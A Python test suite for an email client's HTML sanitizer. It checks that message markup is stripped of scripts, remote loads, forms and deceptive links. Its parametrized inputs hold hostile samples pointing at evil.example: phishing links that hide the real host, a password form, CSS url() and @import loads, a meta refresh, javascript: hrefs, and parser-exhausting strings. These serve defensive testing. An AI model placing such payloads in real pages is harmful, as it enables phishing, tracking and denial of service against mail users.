"""HTML of messages made harmless."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bitrixmail.mime.headers import HeaderSection
from bitrixmail.mime.unpacking import unpack
from bitrixmail.web.mail_html import Picture, clean, document, entangled, policy
from tests.corpus.injections import Injection, injections

ALL = list(injections())
HARMLESS_TAGS = re.compile(
    "a|abbr|b|big|blockquote|br|center|code|dd|details|div|dl|dt|em|font|h[1-6]|hr|i|img|li|main|"
    "mark|ol|p|pre|q|s|small|span|strike|strong|sub|sup|table|tbody|td|th|thead|tr|tt|u|ul|"
    "summary|section|article|header|footer|nav|aside|figure|figcaption|address|caption|col|"
    "colgroup|cite|del|dfn|ins|kbd|samp|time|tfoot|var|wbr|abbr|bdi|bdo"
)
HARMLESS_ATTRIBUTES = {
    "href", "src", "alt", "style", "dir", "lang", "title", "rel", "target", "width", "height",
    "align", "valign", "bgcolor", "border", "cellpadding", "cellspacing", "colspan", "rowspan",
    "scope", "span", "start", "type", "color", "face", "size",
}  # fmt: skip


class Look(HTMLParser):
    """Gathers what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


def assert_inert(html: str) -> None:
    for tag, attributes in Look(html).seen:
        assert HARMLESS_TAGS.fullmatch(tag), html
        assert set(attributes) <= HARMLESS_ATTRIBUTES, html
        if "href" in attributes:
            assert re.match(r"\s*(https?|mailto|tel):", attributes["href"], re.IGNORECASE), html
            assert {"noopener", "noreferrer"} <= set(attributes["rel"].split()), html
            assert attributes["target"] == "_blank"
        assert attributes.get("src", "data:image/png;base64,").startswith("data:image/"), html
        style = attributes.get("style", "")
        assert not re.search(
            r"url|expression|position|import|\\|behavior|binding", style, re.IGNORECASE
        )


def test_there_are_a_hundred() -> None:
    assert len(ALL) >= 100
    assert len({each.html for each in ALL}) == len(ALL)


@pytest.mark.parametrize("injection", ALL, ids=lambda each: each.name)
def test_a_script_of_a_message_stays_inert(injection: Injection) -> None:
    octets = injection.octets
    unpacked = unpack(octets, HeaderSection.parse(octets))
    assert unpacked.html or unpacked.text
    assert_inert(clean(injection.html, {}, images=False).html)
    assert_inert(clean(unpacked.html, {}, images=False).html)


@given(st.lists(st.sampled_from([each.html for each in ALL]), min_size=2, max_size=4))
def test_nor_do_several_help_one_another(pages: list[str]) -> None:
    assert_inert(clean("".join(pages), {}, images=False).html)
    twice = clean(clean("".join(pages), {}, images=False).html, {}, images=False).html
    assert_inert(twice)


def test_what_is_harmless_stays() -> None:
    page = (
        '<p style="color:red;position:fixed">Hello <b>Ann</b></p><a href="https://example.org/?a=1">'
        '<table width="9"><tr><td colspan="2" bgcolor="#fff">x</td></tr></table></a>'
    )
    cleaned = clean(page, {}, images=False).html
    assert '<p style="color:red">Hello <b>Ann</b></p>' in cleaned
    assert 'href="https://example.org/?a=1"' in cleaned
    assert '<td colspan="2" bgcolor="#fff">x</td>' in cleaned


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("https://bank.example@evil.example/a@b", "https://evil.example/a@b"),
        ("http://bank.example:443\t@a@evil.example?x=@", "http://evil.example?x=@"),
        ("HTTPS:\\\\bank.example@evil.example", "HTTPS:\\\\evil.example"),
        ("https://example.org/@ann", "https://example.org/@ann"),
        ("mailto:ann@example.org", "mailto:ann@example.org"),
    ],
)
def test_no_link_has_a_name_in_the_place_of_the_host(written: str, kept: str) -> None:
    page = f'<a href="{written}">Your bank</a>'
    assert f'href="{kept}"' in clean(page, {}, images=False).html


@pytest.mark.parametrize(
    "page",
    [
        '<div style="position:fixed;top:0;left:0;z-index:9;background:#fff">',
        '<p style="background-image:url(https://evil.example/a)">',
        '<p style="color:red;background:u\\72l(//evil.example)">',
        "<style>@import url(//evil.example/a.css);body{display:none}</style>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
        '<input formaction="https://evil.example"><button form="f">',
        '<a href="https://example.org" target="_top" ping="https://evil.example" onclick="x()">a</a>',
        '<link rel="stylesheet" href="//evil.example/a.css"><img srcset="//evil.example/a 2x">',
        '<table background="//evil.example/a"><img src="//evil.example/a"><img src="/logout">',
        '<a href="/logout">a</a><a href="//evil.example">b</a><a href="javascript:evil.example">c</a>',
    ],
)
def test_nothing_covers_sends_or_loads_anything(page: str) -> None:
    cleaned = clean(page, {}, images=False).html
    for trick in ("position", "evil.example", "url(", "<meta", "<form", "<input", "logout", "_top"):
        assert trick not in cleaned, (trick, cleaned)
    assert "<a" not in cleaned or 'rel="noopener noreferrer nofollow"' in cleaned


def test_pictures_elsewhere_are_counted_and_shown_on_request() -> None:
    page = '<img src="https://example.org/a.png" alt="a"><img src="HTTP://example.org/b">'
    blocked = clean(page, {}, images=False)
    assert blocked.remote == 2
    assert "example.org" not in blocked.html
    assert 'alt="a"' in blocked.html
    shown = clean(page, {}, images=True)
    assert (shown.remote, shown.html.count("example.org")) == (2, 2)
    assert "https:" not in policy(images=False)
    assert "img-src data: https: http:;" in policy(images=True)


def test_pictures_of_the_message_are_put_in() -> None:
    pictures = {
        "a@x": Picture("image/png", b"PNG"),
        "svg@x": Picture("image/svg+xml", b"<svg/>"),
        "big@x": Picture("image/png", bytes(3 * 1024 * 1024)),
    }
    html = '<img src="cid:a@x"><img src="cid:svg@x"><img src="cid:big@x"><img src="cid:none">'
    cleaned = clean(html, pictures, images=False)
    assert cleaned.html == '<img src="data:image/png;base64,UE5H"><img><img><img>'
    assert cleaned.remote == 0


def test_a_document_is_of_its_own() -> None:
    made = document(clean("<p>x</p>", {}, images=False), "<script>").decode()
    assert "<title>&lt;script&gt;</title>" in made
    assert "<body><p>x</p></body>" in made
    for part in ("default-src 'none'", "sandbox allow-popups", "frame-ancestors 'self'"):
        assert part in policy(images=False)
    assert "allow-scripts" not in policy(images=False)
    assert "allow-same-origin" not in policy(images=True)


@pytest.mark.parametrize(
    "html",
    [
        "<div>\r\n" * 150_000,
        "<p " + " ".join(f"a{number}" for number in range(150_000)) + ">",
        "<b>" * 60_000,
        "<p a='>' " + " ".join(f"a{number}" for number in range(1000)) + ">",
        "<div><!--</div>-->" * 300,
        '<p a="' * 19_000,
        "<p>" + "".join(f"<font color=a{each}>" for each in range(100)) + "<p>x" * 10_000,
        "x" * 1024 * 1024 + "<p>",
        "&" * 1024 * 1024,
        "&#x" * 300_000,
        "&notit;" * 140_000,
    ],
    ids=[
        "deep", "attributes", "open", "quoted", "comments", "quotes", "reopened", "long",
        "ampersands", "numbers", "names",
    ],
)  # fmt: skip
def test_what_would_take_too_long_is_known_beforehand(html: str) -> None:
    assert entangled(html)


@pytest.mark.parametrize(
    "address",
    [
        "https:\t//bank.example@evil.example/",
        "https:/\n/bank.example@evil.example/",
        "\r\nht\ttps://bank.exa\nmple@evil.example/",
        "https&Tab;://bank.example&NewLine;@evil.example/",
    ],
)
def test_no_link_is_made_to_look_like_one_to_another_host(address: str) -> None:
    cleaned = clean(f'<a href="{address}">x</a>', {}, images=False)
    assert 'href="https://evil.example/"' in cleaned.html
    assert "bank" not in cleaned.html


def test_a_picture_elsewhere_is_known_by_what_a_browser_reads() -> None:
    cleaned = clean('<img src="ht\ttps://spy.example/1.gif">', {}, images=False)
    assert (cleaned.html, cleaned.remote) == ("<img>", 1)


def test_references_within_reason_take_a_moment() -> None:
    html = "&nbsp;" + "word and more words&nbsp;" * 29_000
    assert not entangled(html)
    began = time.process_time()
    clean(html, {}, images=False)
    assert time.process_time() - began < 3


def test_a_long_page_is_not_entangled() -> None:
    row = '<tr><td style="color:red" class=a><b>One</b> <a href="http://a.example/">two</a><p>x\n'
    assert not entangled(
        "<!-- <p a=' -->" + "<table><tr><td>" * 30 + row * 1500 + "<li>a<br>" * 500
    )
